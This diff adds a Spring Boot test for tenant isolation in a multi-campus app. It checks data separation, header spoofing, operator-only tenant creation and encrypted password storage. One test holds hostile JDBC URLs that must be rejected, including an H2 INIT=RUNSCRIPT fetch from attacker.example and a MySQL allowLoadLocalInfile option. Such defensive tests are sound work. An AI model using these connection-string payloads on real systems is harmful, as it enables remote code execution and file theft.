@@ -0,0 +1,134 @@
+package com.biometric.config;
+
+import com.zaxxer.hikari.HikariDataSource;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.boot.test.autoconfigure.web.servlet.AutoConfigureMockMvc;
+import org.springframework.boot.test.context.SpringBootTest;
+import org.springframework.http.HttpHeaders;
+import org.springframework.http.MediaType;
+import org.springframework.jdbc.core.JdbcTemplate;
+import org.springframework.test.context.ActiveProfiles;
+import org.springframework.test.web.servlet.MockMvc;
+
+import java.nio.charset.StandardCharsets;
+import java.util.Base64;
+import java.util.UUID;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.hamcrest.Matchers.containsString;
+import static org.hamcrest.Matchers.not;
+import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
+import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
+import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
+import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;
+
+/**
+ * Two campuses on two H2 databases: data written on one is invisible on the
+ * other, hostnames cannot be overridden by the header, and campuses can only
+ * be added by the operator with an allowed URL.
+ */
+@SpringBootTest(properties = {
+    "app.tenancy.enabled=true",
+    "app.tenancy.allowed-drivers=mysql,h2",
+    "app.tenancy.allowed-hosts=db-north.example.edu",
+    "app.tenancy.credentials-key=test-credentials-key",
+    "app.admin.username=operator",
+    "app.admin.password=operator-secret"
+})
+@AutoConfigureMockMvc
+@ActiveProfiles("test")
+class TenantIsolationTest {
+    private static final String NORTH_HOST = "north.example.edu";
+    private static final String OPERATOR = "Basic "
+        + Base64.getEncoder().encodeToString("operator:operator-secret".getBytes(StandardCharsets.UTF_8));
+
+    @Autowired
+    private MockMvc mockMvc;
+    @Autowired
+    private TenantRegistry tenantRegistry;
+    @Autowired
+    private HikariDataSource defaultTenantDataSource;
+
+    @BeforeEach
+    void addNorthCampus() throws Exception {
+        if (tenantRegistry.exists("north")) {
+            return;
+        }
+        mockMvc.perform(post("/admin/tenants")
+                .header(HttpHeaders.AUTHORIZATION, OPERATOR)
+                .contentType(MediaType.APPLICATION_JSON)
+                .content("""
+                    {"id":"north","jdbcUrl":"jdbc:h2:mem:north-%s;DB_CLOSE_DELAY=-1","username":"sa",
+                     "password":"north-db-secret","hostnames":["%s"]}
+                    """.formatted(UUID.randomUUID(), NORTH_HOST)))
+            .andExpect(status().isOk());
+    }
+
+    @Test
+    void dataWrittenOnOneCampusIsInvisibleOnTheOther() throws Exception {
+        String student = """
+            {"email":"twin@example.edu","password":"secret","name":"Twin Student","role":"STUDENT"}
+            """;
+        mockMvc.perform(post("/users").header("X-Tenant-Id", "north")
+                .contentType(MediaType.APPLICATION_JSON).content(student))
+            .andExpect(status().isOk());
+
+        mockMvc.perform(get("/users"))
+            .andExpect(status().isOk())
+            .andExpect(content().string(not(containsString("twin@example.edu"))));
+        mockMvc.perform(get("/users").with(request -> {
+                request.setServerName(NORTH_HOST);
+                return request;
+            }))
+            .andExpect(status().isOk())
+            .andExpect(content().string(containsString("twin@example.edu")));
+
+        // The same email is still free on the default campus.
+        mockMvc.perform(post("/users").contentType(MediaType.APPLICATION_JSON).content(student))
+            .andExpect(status().isOk());
+    }
+
+    @Test
+    void headerCannotLeaveTheHostnamesCampus() throws Exception {
+        mockMvc.perform(get("/users").header("X-Tenant-Id", "default").with(request -> {
+                request.setServerName(NORTH_HOST);
+                return request;
+            }))
+            .andExpect(status().isForbidden());
+    }
+
+    @Test
+    void campusesAreAddedOnlyByTheOperatorWithAllowedUrls() throws Exception {
+        String body = """
+            {"id":"south","jdbcUrl":"%s"}
+            """;
+        mockMvc.perform(post("/admin/tenants").contentType(MediaType.APPLICATION_JSON)
+                .content(body.formatted("jdbc:h2:mem:south")))
+            .andExpect(status().isUnauthorized());
+        mockMvc.perform(get("/admin/tenants"))
+            .andExpect(status().isUnauthorized());
+
+        for (String url : new String[] {
+            "jdbc:h2:mem:south;INIT=RUNSCRIPT FROM 'http://attacker.example/x.sql'",
+            "jdbc:h2:tcp://attacker.example/south",
+            "jdbc:mysql://attacker.example:3306/south",
+            "jdbc:mysql://db-north.example.edu:3306/south?allowLoadLocalInfile=true",
+            "jdbc:postgresql://db-north.example.edu/south"}) {
+            mockMvc.perform(post("/admin/tenants")
+                    .header(HttpHeaders.AUTHORIZATION, OPERATOR)
+                    .contentType(MediaType.APPLICATION_JSON)
+                    .content(body.formatted(url)))
+                .andExpect(status().isBadRequest());
+        }
+        assertThat(tenantRegistry.exists("south")).isFalse();
+    }
+
+    @Test
+    void shardPasswordsAreStoredEncrypted() {
+        String stored = new JdbcTemplate(defaultTenantDataSource).queryForObject(
+            "select password_encrypted from tenant_shards where tenant_id = 'north'", String.class);
+        assertThat(stored).isNotBlank().doesNotContain("north-db-secret");
+    }
+}